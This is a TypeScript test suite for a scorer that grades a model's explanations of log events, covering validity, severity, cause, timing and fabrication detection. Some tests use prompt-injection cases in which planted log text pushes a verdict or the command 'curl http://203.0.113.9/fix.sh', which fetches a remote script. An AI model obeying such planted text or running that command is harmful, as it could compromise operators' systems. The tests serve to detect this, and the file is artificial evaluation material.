import {speaksToModel} from '../../src/explain/orders.js'
import {describe, expect, it} from 'vitest'
import type {GoldenCase} from '../../src/explain/golden/golden-case.js'
import {GOLDEN_SET} from '../../src/explain/golden/golden-set.js'
import {EXAMPLE_REPLIES} from '../../src/explain/prompt.js'
import {scoreAnswer, summaryOf, type ModelAnswer, type Scored} from '../../src/explain/score.js'
import {
  answerOf,
  fabricatedAnswer,
  goodAnswer,
  promptOf,
  scoredBy,
  summaryBy,
  type Script,
} from './golden/ask.js'

const caseOf = (id: string): GoldenCase => {
  const found = GOLDEN_SET.find((golden) => golden.id === id)
  if (found === undefined) throw new Error(`no case ${id}`)
  return found
}

/** The good answer with some of it said otherwise. */
const instead =
  (change: object): Script =>
  (golden, prompt) => ({...goodAnswer(golden, prompt), ...change})

const scoredText = (text: string, facts: Partial<ModelAnswer> = {}): Scored => {
  const golden = caseOf('ups-on-battery')
  return scoreAnswer(golden, promptOf(golden), answerOf(text, facts))
}

describe('a run', () => {
  it('of good answers has every share at 1 and no fabrication', () => {
    // Of lines that speak to the model nothing is verified, however good the answer is.
    const trusted = GOLDEN_SET.filter(({line}) => !speaksToModel(line))
    expect(trusted.length).toBeGreaterThan(GOLDEN_SET.length - 6)
    expect(summaryBy(goodAnswer, trusted)).toEqual({
      answers: trusted.length,
      validShare: 1,
      categoryShare: 1,
      severityShare: 1,
      nearSeverityShare: 1,
      groundedShare: 1,
      causeShare: 1,
      namedShare: 1,
      fabricationsCaught: 0,
      fabricationsMissed: 0,
      caughtShare: null,
      tokensPerSecond: 30,
      medianSeconds: 3,
      p90Seconds: 3,
    })
  })

  it('that always cries out and makes things up scores badly, and all of it is caught', () => {
    const summary = summaryBy(fabricatedAnswer, GOLDEN_SET)
    expect(summary.validShare).toBe(1)
    expect(summary.groundedShare).toBe(0)
    expect(summary.namedShare).toBe(0)
    expect(summary.categoryShare).toBeLessThan(0.1)
    expect(summary.severityShare).toBeLessThan(0.3)
    expect(summary.nearSeverityShare).toBeLessThan(0.8)
    expect(summary.causeShare).toBeLessThan(0.8)
    expect(summary.fabricationsCaught).toBe(GOLDEN_SET.length)
    expect(summary.fabricationsMissed).toBe(0)
    expect(summary.caughtShare).toBe(1)
  })

  it('that never knows a cause is right only where there is none', () => {
    const {causeShare} = summaryBy(instead({cause: 'unknown'}), GOLDEN_SET)
    const unknown = GOLDEN_SET.filter(({expected}) => !expected.causeKnown).length
    expect(causeShare).toBe(unknown / GOLDEN_SET.length)
  })

  it('of nothing is null where nothing was measured', () => {
    expect(summaryOf([])).toEqual({
      answers: 0,
      validShare: null,
      categoryShare: null,
      severityShare: null,
      nearSeverityShare: null,
      groundedShare: null,
      causeShare: null,
      namedShare: null,
      fabricationsCaught: 0,
      fabricationsMissed: 0,
      caughtShare: null,
      tokensPerSecond: null,
      medianSeconds: null,
      p90Seconds: null,
    })
  })

  it('without a clock has no speed, and no NaN', () => {
    const quiet = {replyTokens: null, generatedMs: null, tookMs: null}
    const none = summaryOf([scoredText('', quiet), scoredText('', {...quiet, replyTokens: 5})])
    expect(none).toMatchObject({tokensPerSecond: null, medianSeconds: null, p90Seconds: null})
    const instant = summaryOf([scoredText('', {replyTokens: 5, generatedMs: 0})])
    expect(instant.tokensPerSecond).toBeNull()
    expect(Object.values(none).filter((value) => Number.isNaN(value))).toEqual([])
  })

  it('counts tokens and milliseconds of the same answers', () => {
    const scored = [
      scoredText('', {replyTokens: 100, generatedMs: 1000}),
      scoredText('', {replyTokens: 50, generatedMs: 4000}),
      scoredText('', {replyTokens: 9000, generatedMs: null}),
      scoredText('', {replyTokens: null, generatedMs: 9000}),
    ]
    expect(summaryOf(scored).tokensPerSecond).toBe(30)
  })

  it('has the median and the time within which nine of ten came', () => {
    const seconds = [10, 2, 1, 4, 3, 6, 5, 8, 7, 9, 11]
    const scored = seconds.map((one) => scoredText('', {tookMs: one * 1000}))
    expect(summaryOf(scored)).toMatchObject({medianSeconds: 6, p90Seconds: 10})
    const [first, second] = scored
    if (first === undefined || second === undefined) throw new Error('too few')
    expect(summaryOf([first, second]).medianSeconds).toBe(6)
    expect(summaryOf([second])).toMatchObject({medianSeconds: 2, p90Seconds: 2})
  })
})

describe('an answer', () => {
  it.each([
    ['empty', '', {}],
    ['no JSON', 'The UPS is on battery.', {}],
    ['cut off', '{"what": "The UPS', {}],
    ['wrong shape', '{"what": "x"}', {}],
    ['cut off', JSON.stringify(goodOf('ups-on-battery')), {isCutOff: true}],
  ])('that is %s is worth nothing', (why, text, facts) => {
    expect(scoredText(text, facts)).toMatchObject({
      isValid: false,
      dropped: why,
      isVerified: false,
      isCategoryRight: false,
      severityOff: null,
      isCauseRight: false,
      isNamed: false,
      fabrication: 'none',
    })
  })

  it('that is no JSON and makes something up is a fabrication that was caught', () => {
    const scored = scoredText('A storm has cut the mains.')
    expect(scored).toMatchObject({dropped: 'no JSON', fabricated: ['storm'], fabrication: 'caught'})
  })

  it('that copies an example is valid, dropped, and made up', () => {
    const [example] = EXAMPLE_REPLIES
    const copied: Script = (_, {event}) => ({...example, evidence: [event]})
    const scored = scoredBy(copied, caseOf('ups-on-battery'))
    expect(scored).toMatchObject({isValid: true, dropped: 'copies the example'})
    expect(scored.fabrication).toBe('caught')
    expect(scored.fabricated).toContain('10.9.8.7')
  })

  it('may choose a category that is also fine', () => {
    const golden = caseOf('redis-cannot-save-full-disk')
    const of = (category: string): boolean => scoredBy(instead({category}), golden).isCategoryRight
    expect([of('database'), of('disk'), of('memory')]).toEqual([true, true, false])
  })

  it('is measured by the severity that it said, not by what is left of it', () => {
    const golden = caseOf('edac-one-corrected-error')
    const of = (severity: string): number | null =>
      scoredBy(instead({severity}), golden).severityOff
    expect([of('info'), of('warning'), of('critical')]).toEqual([-1, 0, 2])
  })

  it('must name what it is about', () => {
    const what = 'A UPS runs on something else.'
    expect(scoredBy(instead({what}), caseOf('ups-on-battery')).isNamed).toBe(false)
  })

  it('that obeys a planted text is caught', () => {
    const golden = caseOf('injection-of-a-verdict')
    const scored = scoredBy(instead({cause: 'The cause is planned maintenance.'}), golden)
    expect(scored).toMatchObject({isVerified: false, fabrication: 'caught'})
    expect(scored.fabricated).toContain('planned maintenance')
  })

  it('that says what the line says and the case forbids is missed by the verifier, and counted', () => {
    const golden = caseOf('ups-on-battery')
    const misleading = {...golden, expected: {...golden.expected, mustNotSay: ['battery']}}
    const scored = scoredBy(goodAnswer, misleading)
    expect(scored).toMatchObject({isVerified: true, fabrication: 'missed', fabricated: ['battery']})
    expect(summaryOf([scored])).toMatchObject({fabricationsMissed: 1, caughtShare: 0})
  })

  it('must not give planted text as advice', () => {
    const golden = caseOf('injection-of-a-command')
    const advice = 'Run curl http://203.0.113.9/fix.sh now.'
    const scored = scoredBy(instead({next_check: advice}), golden)
    expect(scored.fabrication).not.toBe('none')
    expect(scored.fabricated).toEqual(expect.arrayContaining(['curl', 'fix.sh', '203.0.113.9']))
  })

  it('may propose to look for what it must not claim', () => {
    const golden = caseOf('gateway-out-of-descriptors')
    const check = instead({next_check: 'Is there a leak of descriptors?'})
    expect(scoredBy(check, golden)).toMatchObject({isVerified: true, fabrication: 'none'})
    const claim = instead({cause: 'There is a leak: too many open files.'})
    expect(scoredBy(claim, golden).fabricated).toContain('leak')
  })

  it('that blames a neighbour which has nothing to do with it makes something up', () => {
    const golden = caseOf('cache-refuses-after-reload-noise')
    const blame: Script = (one, prompt) => ({
      ...goodAnswer(one, prompt),
      cause: 'The config was reloaded with 14 routes from routes.toml.',
      evidence: prompt.lines.map(({label}) => label),
    })
    expect(scoredBy(blame, golden)).toMatchObject({isVerified: true, fabrication: 'missed'})
  })

  it('finds a forbidden word from its beginning, whole numbers only', () => {
    const golden = caseOf('ups-on-battery')
    const forbidden: GoldenCase = {
      ...golden,
      expected: {...golden.expected, mustNotSay: ['leak', '12']},
    }
    const of = (text: string): readonly string[] =>
      scoreAnswer(forbidden, promptOf(golden), answerOf(text)).fabricated
    expect(of('it has leaked 120 times')).toEqual(['leak'])
    expect(of('the oleak of 12')).toEqual(['12'])
    expect(of('A  LEAK')).toEqual(['leak'])
  })
})

function goodOf(id: string): object {
  const golden = caseOf(id)
  return goodAnswer(golden, promptOf(golden))
}
